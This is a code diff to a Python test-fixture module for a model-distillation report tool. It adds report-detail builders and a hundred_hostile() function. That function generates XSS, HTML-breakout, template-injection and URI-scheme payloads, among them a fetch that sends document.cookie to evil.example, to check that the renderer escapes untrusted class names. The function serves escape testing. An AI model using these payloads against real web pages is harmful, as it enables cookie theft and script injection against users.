@@ -1,7 +1,11 @@
 """A realistic report, built by hand: two students, four artifacts and their measurements; and names that mean harm."""
 
+import base64
+import io
 import math
 import random
+
+from PIL import Image
 
 from edgekd.core import stats
 from edgekd.core.answers import pack
@@ -28,6 +32,16 @@ from edgekd.core.records import (
     TensorSpec,
     TrainingFacts,
     WorkerSamples,
+)
+from edgekd.core.records.details import (
+    Answer,
+    Change,
+    ClassChange,
+    Details,
+    ShownImage,
+    Timeline,
+    TimelinePoint,
+    TimelineWorker,
 )
 from edgekd.judging.evidence import summarise
 
@@ -356,3 +370,99 @@ def bare_report() -> Report:
         artifacts=(),
         latencies=(),
     )
+
+
+def hundred_hostile() -> tuple[str, ...]:
+    """Return a hundred names that would run, load, or break out of where they stand, if they were obeyed."""
+    does = ("window.pwned=1", "alert(document.domain)", "fetch('https://evil.example/'+document.cookie)")
+    events = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter")
+    elements = ("img src=x", "svg", "details open", "video src=x", "body", "iframe srcdoc=x", "input autofocus", "marquee")
+    found = [*HOSTILE]
+    found += [f"<script>{what}</script>" for what in does]
+    found += [f"</{end}><script>{does[0]}</script>" for end in ("title", "style", "td", "textarea", "svg", "main")]
+    found += [f"<{element} {event}={does[i % 3]}>" for i, element in enumerate(elements) for event in events[:4]]
+    found += [f'{quote} {event}="{does[0]}" {quote}' for quote in ("'", '"', "`", "&quot;") for event in events[4:]]
+    found += [f"{scheme}:{does[0]}" for scheme in ("javascript", "JaVaScRiPt", "data:text/html,<script>", "vbscript", "file")]
+    found += [f"url({target})" for target in ("https://evil.example/a.png", "//evil.example/b", "data:image/svg+xml,<svg/>")]
+    found += [
+        "<!--",
+        "-->",
+        "<![CDATA[",
+        "<?php",
+        "&#x3c;script&#x3e;",
+        "%3Cscript%3E",
+        "\\u003cscript\\u003e",
+        "<base href=//e>",
+    ]
+    found += ["<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>"]
+    found += [
+        "@import url(//evil.example/y.css);",
+        "</style><style>*{display:none}</style>",
+        "{{constructor.constructor('x')()}}",
+    ]
+    found += ["${7*7}", "#{7*7}", "<%= 7*7 %>", "\u202e gnp.exe", "a" * 5000, "\x00<script>x</script>"]
+    return tuple(dict.fromkeys(found))[:100]
+
+
+def picture(colour: tuple[int, int, int]) -> str:
+    """Return a small JPEG of one colour in base64."""
+    held = io.BytesIO()
+    Image.new("RGB", (96, 64), colour).save(held, "JPEG")
+    return base64.b64encode(held.getvalue()).decode("ascii")
+
+
+def detailed(of: Report, *, names: tuple[str, ...] = ()) -> Report:
+    """Return a report with classes that changed, flips with pictures, and a session; `names` are those of the classes."""
+    classes = names or of.student.classes
+    rows = tuple(
+        ClassChange(
+            name=name,
+            images=24,
+            right=18 + i % 5,
+            right_before=20,
+            only_now=max(0, i % 5 - 2),
+            only_before=max(0, 2 - i % 5),
+            p_value=1.0 if i % 5 else 0.031,
+        )
+        for i, name in enumerate(classes)
+    )
+    changes = (
+        Change(subject="student", against="baseline", classes=rows),
+        Change(subject=of.artifacts[-1].name, against="student", classes=rows[:2]),
+    )
+    said = [classes[0], classes[1 % len(classes)]]
+    shown = tuple(
+        ShownImage(
+            image=f"val/{name}/image_{i:04d}.jpg",
+            label=name,
+            answers=(
+                Answer(who="student", said=name, right=True),
+                *(Answer(who=a.name, said=said[i % 2], right=said[i % 2] == name) for a in of.artifacts),
+            ),
+            jpeg=picture((40 * i % 256, 120, 200)) if i != 2 else "",
+        )
+        for i, name in enumerate(classes[2:8])
+    )
+    draw = random.Random(5)
+    points = tuple(
+        TimelinePoint(
+            at_s=i / 2,
+            clock_mhz=2400 - (i > 60) * 12 * (i - 60) + draw.gauss(0, 8),
+            temperature_c=52 + 18 * (1 - math.exp(-i / 40)) + draw.gauss(0, 0.3),
+            busy=0.55 + 0.3 * (i % 12 < 8) + draw.gauss(0, 0.03),
+        )
+        for i in range(120)
+    )
+    workers = tuple(
+        TimelineWorker(
+            artifact=a.name,
+            arm="candidate",
+            at_s=2.0 + 6 * turn + 1.4 * i,
+            p50_ms=(6.4, 1.31, 0.93, 0.96)[i % 4] * draw.gauss(1, 0.02),
+        )
+        for turn in range(9)
+        for i, a in enumerate(of.artifacts)
+    )
+    device = of.latencies[0].device.name
+    timelines = (Timeline(device=device, session=sha("session"), points=points, workers=workers),)
+    return of.model_copy(update={"details": Details(changes=changes, shown=shown, flipped=41, timelines=timelines)})
